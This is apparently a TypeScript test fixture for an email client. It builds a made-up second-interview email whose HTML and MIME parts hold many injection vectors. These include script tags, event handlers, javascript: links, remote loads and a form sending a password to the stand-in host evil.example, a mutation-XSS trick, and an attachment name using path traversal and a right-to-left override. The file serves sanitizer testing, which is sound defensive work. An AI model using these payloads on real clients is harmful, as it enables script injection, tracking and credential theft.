/** An answer whose formatting tries to run, load, act and lead away, by every way its kind has; invented. */

export const hostileHtml = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css"><link rel="prefetch" href="https://evil.example/prefetch">
<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/background) }</style>
<script>top.document.title = 'owned'; fetch('https://evil.example/script')</script></head>
<body background="https://evil.example/body" onload="top.document.title='owned'">
<h1 style="background-image:url('https://evil.example/inline')">Second interview</h1>
<p>We would like to invite you to a second interview next week. Please tell us which day suits you.</p>
<img src="https://evil.example/pixel.gif" onerror="top.document.title='owned'" alt="a picture">
<img srcset="https://evil.example/a 1x, https://evil.example/b 2x"><picture><source srcset="https://evil.example/source"></picture>
<video src="https://evil.example/video" poster="https://evil.example/poster" autoplay></video><audio src="https://evil.example/audio" autoplay></audio>
<svg onload="top.document.title='owned'"><image href="https://evil.example/svg"/><a xlink:href="javascript:top.document.title='owned'"><text>svg</text></a><style>@import "https://evil.example/svg.css";</style></svg>
<math><mtext><style><img src onerror="top.document.title='owned'"></style></mtext></math>
<iframe src="https://evil.example/frame" srcdoc="<script>top.document.title='owned'</script>"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<p><a href="javascript:top.document.title='owned'">press here</a> <a href="https://evil.example/link" target="_top">or here</a> <a href="mailto:dana@acme.test">or write</a></p>
<form action="https://evil.example/form" method="post"><p>a form <input name="password" autofocus onfocus="top.document.title='owned'"><button formaction="https://evil.example/button">a form that is sent</button></p></form>
<p style="position:fixed;inset:0" onmouseover="top.document.title='owned'">cover</p><marquee onstart="top.document.title='owned'">moving</marquee>
<table background="https://evil.example/table"><tr><td>cell</td></tr></table>
<blockquote><p>Dear Dana, thank you for the talk.</p></blockquote></body></html>`

export function hostileMail({ from, to }: { readonly from: string; readonly to: string }): string {
  return `From: ${from}
To: ${to}
Subject: Second interview <script>document.title='owned'</script>
Date: Mon, 23 Nov 2026 15:30:00 -0500
Message-ID: <hostile@acme.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="inner"

--inner
Content-Type: text/plain; charset=utf-8

Dear Alex,

We would like to invite you to a second interview next week. Please tell us which day suits you.
<script>document.title='owned'</script>

Dana

On Thu, 19 Nov 2026 at 14:02, Alex Moreau <alex@home.test> wrote:
> Dear Dana, thank you for the talk.

--inner
Content-Type: text/html; charset=utf-8

${hostileHtml}

--inner--
--outer
Content-Type: text/html; name="../../evil\u202elmth.html"
Content-Disposition: attachment; filename="../../evil.html"
Content-Transfer-Encoding: 7bit

<script>fetch("https://evil.example/file")</script>
--outer--
`.replace(/\r?\n/g, '\r\n')
}
